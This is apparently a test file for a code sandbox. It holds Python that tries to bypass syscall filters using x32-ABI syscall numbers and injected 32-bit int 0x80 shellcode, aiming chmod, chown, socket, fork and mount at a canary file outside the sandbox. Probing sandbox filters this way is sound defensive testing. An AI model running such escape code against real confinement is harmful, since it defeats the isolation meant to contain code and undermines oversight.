"""Code of the student's own asks the kernel in the manner of processors with 32 bits, to which filters often do not listen."""
# covers: files searched, neighbours
# honest: exercise2
# %% first
import ctypes, mmap, platform

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
if platform.machine() == "x86_64":
    for number in (90, 92, 41, 57, 165):  # chmod, chown, socket, fork, mount
        libc.syscall(0x40000000 | number, b"@CANARY@/outside.txt", 0o777, 0)
    page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22 | 0x40, -1, ctypes.c_size_t(0))  # in the lower 2 GB
    name = b"@CANARY@/outside.txt\0"
    ctypes.memmove(page + 256, name, len(name))
    # push rbx; mov eax, 15 (chmod); mov ebx, name; mov ecx, 0777; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x0f\0\0\0\xbb" + (page + 256).to_bytes(4, "little") + b"\xb9\xff\x01\0\0\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    ctypes.CFUNCTYPE(ctypes.c_int)(page)()
